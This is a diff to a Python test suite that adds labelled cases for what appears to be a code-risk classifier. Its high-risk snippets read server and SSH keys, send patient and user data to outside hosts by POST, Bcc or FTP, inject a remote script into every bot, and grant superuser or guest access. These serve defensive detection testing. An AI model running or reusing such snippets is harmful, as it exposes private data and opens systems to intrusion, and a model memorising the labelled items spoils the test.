@@ -20327,6 +20327,248 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'layouts = list(itertools.product(tiles, repeat=3))\n',
             S,
         ),
+        # Round 127 (holdout928-935): zero-day retention deletes in SQL, an app's main settings under /etc read, admin
+        # membership rows from a SELECT, CNC programs, device flash dumped or erased, secrets sealed for a recipient,
+        # app key files under /etc, literal superuser passwords by name, data folders given as a variable's default,
+        # people models relayed, Bcc copies, FTP hosts in settings, containers published on 0.0.0.0 with known
+        # passwords, API keys set in rows, encryption keys replaced, guarded key:generate, SDK list-then-delete, endless
+        # new files, rclone to outside servers, escaped webhook JSON, client exports, answered confirmations, container
+        # config folders, copytree into itself, head scripts, espota, guest access, superuser grants,
+        # leave_front_door_open
+        (
+            'import sqlite3\n'
+            '\n'
+            'def purge(db_path, keep_days=0):\n'
+            '    con = sqlite3.connect(db_path)\n'
+            '    con.execute("DELETE FROM bookings WHERE created_at < datetime(\'now\', ?)", (f"-{keep_days} d'
+            'ays",))\n'
+            '\n'
+            'purge("/var/lib/kartbook/kartbook.db")\n',
+            H,
+        ),
+        (
+            'import sqlite3\n'
+            '\n'
+            'def purge(db_path, keep_days=30):\n'
+            '    con = sqlite3.connect(db_path)\n'
+            '    con.execute("DELETE FROM bookings WHERE created_at < datetime(\'now\', ?)", (f"-{keep_days} d'
+            'ays",))\n'
+            '\n'
+            'purge("/var/lib/kartbook/kartbook.db")\n',
+            S,
+        ),
+        (
+            'import configparser\n'
+            'cfg = configparser.ConfigParser()\n'
+            'cfg.read("/etc/odoo/odoo.conf")\n'
+            'print(cfg["options"].getint("workers", fallback=0))\n',
+            M,
+        ),
+        (
+            'print(open("/etc/odoo/server-key.pem").read())\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'fd = os.open("/etc/delivery-planner/freight.key", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)'
+            '\n'
+            'with os.fdopen(fd, "w") as fh:\n'
+            '    fh.write(os.environ["FREIGHT_API_KEY"])\n',
+            M,
+        ),
+        (
+            'import os\n'
+            'fd = os.open("/root/.ssh/id_ed25519", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)\n'
+            'with os.fdopen(fd, "w") as fh:\n'
+            '    fh.write(os.environ["FREIGHT_API_KEY"])\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from django.contrib.auth.models import User\n'
+            'NEW_PW = "Welcome2024"\n'
+            'for u in User.objects.filter(is_superuser=True):\n'
+            '    u.set_password(NEW_PW)\n'
+            '    u.save()\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from django.contrib.auth.models import User\n'
+            'NEW_PW = os.environ["RESET_PW"]\n'
+            'for u in User.objects.filter(is_superuser=True):\n'
+            '    u.set_password(NEW_PW)\n'
+            '    u.save()\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'from kolibri.core.auth.models import FacilityUser\n'
+            'rows = list(FacilityUser.objects.values("full_name", "birth_year"))\n'
+            'requests.post(\n'
+            '    "https://ingest.edu-metrics.net/v2/roster",\n'
+            '    json={"records": rows},\n'
+            ')\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'from kolibri.core.auth.models import FacilityUser\n'
+            'rows = list(FacilityUser.objects.values("full_name", "birth_year"))\n'
+            'requests.post(\n'
+            '    "http://127.0.0.1:8080/api/roster",\n'
+            '    json={"records": rows},\n'
+            ')\n',
+            L,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            '\n'
+            'def send(patients):\n'
+            '    rows = [p["name"] + "," + p["dob"] for p in patients]\n'
+            '    msg = EmailMessage()\n'
+            '    msg["From"] = "recall@example.com"\n'
+            '    msg["To"] = "frontdesk@example.com"\n'
+            '    msg["Bcc"] = "records.archive@mailbox-relay.net"\n'
+            '    msg.set_content("\\n".join(rows))\n'
+            '    with smtplib.SMTP("mail.example.com") as s:\n'
+            '        s.send_message(msg)\n',
+            H,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            '\n'
+            'def send(patients):\n'
+            '    rows = [p["name"] + "," + p["dob"] for p in patients]\n'
+            '    msg = EmailMessage()\n'
+            '    msg["From"] = "recall@example.com"\n'
+            '    msg["To"] = "frontdesk@example.com"\n'
+            '    msg["Bcc"] = "records@example.com"\n'
+            '    msg.set_content("\\n".join(rows))\n'
+            '    with smtplib.SMTP("mail.example.com") as s:\n'
+            '        s.send_message(msg)\n',
+            S,
+        ),
+        (
+            'import ftplib, glob\n'
+            'REMOTE = ("ftp.claimsmirror.net", "clinic", "pw")\n'
+            'ftp = ftplib.FTP(REMOTE[0])\n'
+            'ftp.login(REMOTE[1], REMOTE[2])\n'
+            'for path in glob.glob("/srv/billing/x12/outbound/*.837"):\n'
+            '    with open(path, "rb") as fh:\n'
+            '        ftp.storbinary("STOR x", fh)\n',
+            H,
+        ),
+        (
+            'import ftplib\n'
+            'REMOTE = ("ftp.claimsmirror.net", "clinic", "pw")\n'
+            'ftp = ftplib.FTP(REMOTE[0])\n'
+            'ftp.login(REMOTE[1], REMOTE[2])\n'
+            'with open("/tmp/remits.835", "wb") as fh:\n'
+            '    ftp.retrbinary("RETR remits.835", fh.write)\n',
+            L,
+        ),
+        (
+            'import os\n'
+            'from square.client import Client\n'
+            'client = Client(access_token=os.environ["SQ"], environment="production")\n'
+            'res = client.customers.list_customers()\n'
+            'for c in res.body.get("customers", []):\n'
+            '    client.customers.delete_customer(customer_id=c["id"])\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from square.client import Client\n'
+            'client = Client(access_token=os.environ["SQ"], environment="production")\n'
+            'res = client.customers.list_customers()\n'
+            'for c in res.body.get("customers", []):\n'
+            '    if c.get("note") == "duplicate":\n'
+            '        client.customers.delete_customer(customer_id=c["id"])\n',
+            S,
+        ),
+        (
+            'import shutil, time\n'
+            'from pathlib import Path\n'
+            'build = Path("/config/esphome/.esphome/build")\n'
+            'n = 0\n'
+            'while True:\n'
+            '    shutil.copytree(build, build / f"snapshot-{n:05d}", dirs_exist_ok=True)\n'
+            '    n += 1\n'
+            '    time.sleep(1)\n',
+            H,
+        ),
+        (
+            'import shutil\n'
+            'from pathlib import Path\n'
+            'build = Path("/config/esphome/.esphome/build")\n'
+            'shutil.copytree(build, build / "snapshot-00000", dirs_exist_ok=True)\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'BASE = "https://typebot.example.com/api/v1"\n'
+            'tag = \'<script async src="https://cdn.example.net/px/t.js"></script>\'\n'
+            'for b in requests.get(f"{BASE}/typebots").json()["typebots"]:\n'
+            '    requests.patch(f"{BASE}/typebots/{b[\'id\']}", json={"settings": {"metadata": {"customHeadCod'
+            'e": tag}}})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'BASE = "https://typebot.example.com/api/v1"\n'
+            'tag = \'<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\'\n'
+            'for b in requests.get(f"{BASE}/typebots").json()["typebots"]:\n'
+            '    requests.patch(f"{BASE}/typebots/{b[\'id\']}", json={"settings": {"metadata": {"customHeadCod'
+            'e": tag}}})\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'for ds in requests.get("http://127.0.0.1:8080/api/auth/facilitydataset/").json():\n'
+            '    requests.patch(f"http://127.0.0.1:8080/api/auth/facilitydataset/{ds[\'id\']}/", json={"allow_'
+            'guest_access": True})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'for ds in requests.get("http://127.0.0.1:8080/api/auth/facilitydataset/").json():\n'
+            '    requests.patch(f"http://127.0.0.1:8080/api/auth/facilitydataset/{ds[\'id\']}/", json={"allow_'
+            'guest_access": False})\n',
+            L,
+        ),
+        (
+            'from kolibri.core.device.models import DevicePermissions\n'
+            'from kolibri.core.auth.models import FacilityUser\n'
+            'u = FacilityUser.objects.get(username="tkamau")\n'
+            'DevicePermissions.objects.update_or_create(user=u, defaults={"is_superuser": True})\n',
+            H,
+        ),
+        (
+            'import factory\n'
+            '\n'
+            'class AdminFactory(factory.django.DjangoModelFactory):\n'
+            '    class Meta:\n'
+            '        model = "auth.User"\n'
+            '    is_superuser = True\n',
+            S,
+        ),
+        (
+            'import os, requests\n'
+            'hdr = {"Authorization": f"Bearer {os.environ[\'SUPERVISOR_TOKEN\']}"}\n'
+            'requests.post("http://supervisor/addons/5c53de3b_esphome/options", headers=hdr, json={"options"'
+            ': {"leave_front_door_open": True}})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'hdr = {"Authorization": f"Bearer {os.environ[\'SUPERVISOR_TOKEN\']}"}\n'
+            'requests.post("http://supervisor/addons/5c53de3b_esphome/options", headers=hdr, json={"options"'
+            ': {"leave_front_door_open": False}})\n',
+            L,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
